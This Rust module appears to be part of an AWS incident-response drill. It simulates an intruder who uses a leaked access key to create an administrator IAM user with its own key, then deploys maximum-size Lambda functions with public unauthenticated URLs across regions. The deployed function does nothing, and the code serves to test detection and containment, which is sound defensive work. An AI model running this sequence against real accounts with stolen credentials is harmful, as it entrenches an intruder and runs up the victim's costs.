//! The intruder of `lambda-ddos-all-regions`, with real calls: from a leaked key to functions in many regions.

use std::io::{Cursor, Write as _};
use std::time::Duration;

use anyhow::{Context as _, Result, bail};
use aws_config::{Region, SdkConfig};
use aws_sdk_lambda::primitives::Blob;
use aws_sdk_lambda::types::{FunctionCode, FunctionUrlAuthType, Runtime};
use tokio::time::Instant;
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

use super::ground::{ADMINISTRATOR, FUNCTION, Ground, Key, Names, OWN};
use super::made::{Made, Thing};
use crate::aws::Refusal;

/// A new key and new rights work after some seconds.
const SETTLES: Duration = Duration::from_secs(60);
/// Once they work in one region, others need no such patience.
const SOON: Duration = Duration::from_secs(15);
const PAUSE: Duration = Duration::from_secs(1);
/// As large and as long as a function can be: that is what the intruder is after. Nobody invokes it.
const MEGABYTES: i32 = 10_240;
const SECONDS: i32 = 900;

/// What the intruder did.
pub(super) struct Attack {
    /// When the first call was sent that AWS answered.
    pub begun: Instant,
    /// The key that it made for itself.
    pub own: Key,
    /// ARNs.
    pub functions: Vec<String>,
    /// What the story has and the account does not.
    pub left_out: Vec<String>,
}

/// Plays the story: with the leaked key a user with a key and all rights, with that key a function in each region.
///
/// # Errors
/// What AWS refuses of that, where nothing comes after it.
pub(super) async fn attack(
    config: &SdkConfig,
    ground: &Ground,
    names: &Names,
    regions: &[String],
    made: &Made,
) -> Result<Attack> {
    let leaked = ground.leaked.hold(config);
    let begun = enter(&leaked).await.context("the drill's leaked key does not work")?;
    let own = settle(&leaked, names, made).await.context("with the drill's leaked key")?;
    let mut attack = Attack { begun, own, functions: Vec::new(), left_out: Vec::new() };
    let hands = attack.own.hold(config);
    let name = names.name(FUNCTION);
    for region in regions {
        let patience = if attack.functions.is_empty() { SETTLES } else { SOON };
        let there = hands.to_builder().region(Region::new(region.clone())).build();
        made.note(Thing::Function(region.clone(), name.clone()));
        match retried(patience, async || function(&there, &name, &ground.role).await).await {
            Ok(arn) => {
                made.confirm();
                attack.functions.push(arn);
            }
            Err(refusal) => {
                attack.left_out.push(format!("no function in {region}: {refusal}"));
                continue;
            }
        }
        if let Err(refusal) = open(&there, &name).await {
            attack.left_out.push(format!("no address for the function in {region}: {refusal}"));
        }
    }
    if attack.functions.is_empty() {
        bail!("the intruder could make no function: {}", attack.left_out.join("; "));
    }
    Ok(attack)
}

/// Looks who the key is. Gives when the call was sent that was answered.
async fn enter(config: &SdkConfig) -> Result<Instant, Refusal> {
    let sts = aws_sdk_sts::Client::new(config);
    let look = async || {
        let begun = Instant::now();
        let answer = sts.get_caller_identity().send().await;
        answer.map(|_| begun).map_err(|error| Refusal::of("sts:GetCallerIdentity", &error))
    };
    retried(SETTLES, look).await
}

/// Makes a user with a key and all rights.
async fn settle(config: &SdkConfig, names: &Names, made: &Made) -> Result<Key, Refusal> {
    let iam = aws_sdk_iam::Client::new(config);
    let name = names.name(OWN);
    made.note(Thing::User(name.clone()));
    // The rights of a new administrator settle too.
    let create = async || {
        let answer = iam.create_user().user_name(&name).send().await;
        match answer.map_err(|error| Refusal::of("iam:CreateUser", &error)) {
            Err(refusal) if is_there_already(&refusal) => Ok(()),
            answer => answer.map(drop),
        }
    };
    retried(SETTLES, create).await?;
    made.confirm();
    let answer = iam.create_access_key().user_name(&name).send().await;
    let answer = answer.map_err(|error| Refusal::of("iam:CreateAccessKey", &error))?;
    let key = Key::of(answer.access_key)?;
    let answer = iam.attach_user_policy().user_name(&name).policy_arn(ADMINISTRATOR).send().await;
    answer.map_err(|error| Refusal::of("iam:AttachUserPolicy", &error))?;
    Ok(key)
}

/// Makes a function, and gives its ARN.
async fn function(config: &SdkConfig, name: &str, role: &str) -> Result<String, Refusal> {
    const RIGHT: &str = "lambda:CreateFunction";
    let lambda = aws_sdk_lambda::Client::new(config);
    let code = code().map_err(|error| Refusal::Other { action: RIGHT, why: format!("packing its code: {error}") })?;
    let request = lambda
        .create_function()
        .function_name(name)
        .runtime(Runtime::Python312)
        .role(role)
        .handler("index.handler")
        .code(FunctionCode::builder().zip_file(Blob::new(code)).build())
        .memory_size(MEGABYTES)
        .timeout(SECONDS);
    match request.send().await.map_err(|error| Refusal::of(RIGHT, &error)) {
        Ok(answer) => Ok(answer.function_arn.unwrap_or_default()),
        Err(refusal) if is_there_already(&refusal) => {
            let known = lambda.get_function_configuration().function_name(name).send().await;
            let known = known.map_err(|error| Refusal::of("lambda:GetFunctionConfiguration", &error))?;
            Ok(known.function_arn.unwrap_or_default())
        }
        Err(refusal) => Err(refusal),
    }
}

/// Whether a try whose answer was lost made it: nobody else has names of this drill.
fn is_there_already(refusal: &Refusal) -> bool {
    let said = ["EntityAlreadyExists", "ResourceConflictException"];
    matches!(refusal, Refusal::Other { why, .. } if said.iter().any(|name| why.starts_with(name)))
}

/// Gives a function an address that everybody can call. It does nothing.
async fn open(config: &SdkConfig, name: &str) -> Result<(), Refusal> {
    let lambda = aws_sdk_lambda::Client::new(config);
    let address = lambda.create_function_url_config().function_name(name).auth_type(FunctionUrlAuthType::None);
    let answer = address.send().await;
    answer.map_err(|error| Refusal::of("lambda:CreateFunctionUrlConfig", &error))?;
    let permission = lambda
        .add_permission()
        .function_name(name)
        .statement_id("everybody")
        .action("lambda:InvokeFunctionUrl")
        .principal("*")
        .function_url_auth_type(FunctionUrlAuthType::None);
    permission.send().await.map(drop).map_err(|error| Refusal::of("lambda:AddPermission", &error))
}

/// A function that does nothing, packed.
fn code() -> Result<Vec<u8>> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    archive.start_file("index.py", SimpleFileOptions::default().compression_method(CompressionMethod::Stored))?;
    archive.write_all(b"def handler(event, context):\n    return 1\n")?;
    Ok(archive.finish()?.into_inner())
}

/// The intruder's next call, which nobody with any rights is refused on purpose: true where it is refused.
///
/// # Errors
/// No answer.
pub(super) async fn is_refused(config: &SdkConfig, key: &Key) -> Result<bool, Refusal> {
    let answer = aws_sdk_iam::Client::new(&key.hold(config)).list_users().max_items(1).send().await;
    match answer.map_err(|error| Refusal::of("iam:ListUsers", &error)) {
        Ok(_) => Ok(false),
        Err(Refusal::Denied { .. } | Refusal::Credentials(_)) => Ok(true),
        Err(refusal) => Err(refusal),
    }
}

/// Whether trying again never helps. What was made a moment ago is not known everywhere: a user, rights, and a role that
/// functions are to run as.
fn is_final(refusal: &Refusal) -> bool {
    match refusal {
        Refusal::Other { why, .. } => !why.contains("cannot be assumed"),
        Refusal::Token(_) => true,
        Refusal::Throttled(_)
        | Refusal::Denied { .. }
        | Refusal::Credentials(_)
        | Refusal::Gone(_)
        | Refusal::Passing(_) => false,
    }
}

/// Tries until it works, AWS refuses it for good, or patience ends.
async fn retried<T>(patience: Duration, call: impl AsyncFn() -> Result<T, Refusal>) -> Result<T, Refusal> {
    let end = Instant::now() + patience;
    loop {
        match call().await {
            Ok(done) => return Ok(done),
            Err(refusal) if is_final(&refusal) || Instant::now() + PAUSE > end => return Err(refusal),
            Err(_) => tokio::time::sleep(PAUSE).await,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(why: &str) -> Refusal {
        Refusal::Other { action: "iam:CreateUser", why: why.to_owned() }
    }

    #[test]
    fn only_what_may_pass_is_tried_again() {
        let denied = Refusal::Denied { action: "iam:CreateUser", why: "a new key".to_owned() };
        let role = "InvalidParameterValueException: The role defined for the function cannot be assumed by Lambda.";
        for passing in [denied, refused(role), Refusal::Gone("NoSuchEntity".to_owned())] {
            assert!(!is_final(&passing), "{passing}");
        }
        for last in ["LimitExceeded: too many users", "ValidationError: no"] {
            assert!(is_final(&refused(last)), "{last}");
        }
        assert!(is_there_already(&refused("EntityAlreadyExists: User with name x already exists.")));
        assert!(!is_there_already(&refused("LimitExceeded: EntityAlreadyExists")));
    }
}
